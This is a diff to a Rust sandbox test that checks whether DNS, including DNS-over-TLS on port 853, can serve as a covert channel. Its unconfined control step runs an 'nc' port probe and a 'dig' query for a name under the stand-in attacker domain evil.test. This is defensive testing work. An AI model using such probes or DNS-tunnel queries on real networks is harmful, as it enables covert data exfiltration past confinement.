@@ -9,6 +9,7 @@ const BUDGET: usize = 4096;
 #[test]
 fn t36_dns_as_a_channel() {
     need("nc");
+    need("dig");
     let lab = Lab::new();
     lab.zone().put("doh.test", Entry::at(&["198.51.100.20"]));
     let probe = lab.probe("channel.py");
@@ -46,8 +47,7 @@ fn t36_dns_as_a_channel() {
     lab.expect_silence(EVIL);
     let frames = lab.frames();
     assert!(!frames.iter().any(|frame| frame.is_tcp(853) || frame.is_udp(853)), "{frames:?}");
-    let control = lab.unconfined(&format!("nc -z -w2 {DNS} 853; echo dot=$?; {probe} {DNS} evil.test ok.test"));
-    assert_eq!(control.step("closed_a_3"), 200, "{control}");
+    lab.unconfined(&format!("nc -z -w2 {DNS} 853; dig @{DNS} +tries=1 word.evil.test"));
     assert!(lab.frames().iter().any(|frame| frame.is_tcp(853)), "the control reaches the port");
-    assert!(lab.zone().queries().iter().any(|query| query.name.ends_with(".evil.test")), "and asks for any name");
+    assert!(!lab.zone().queries_for("word.evil.test").is_empty(), "and asks for any name");
 }
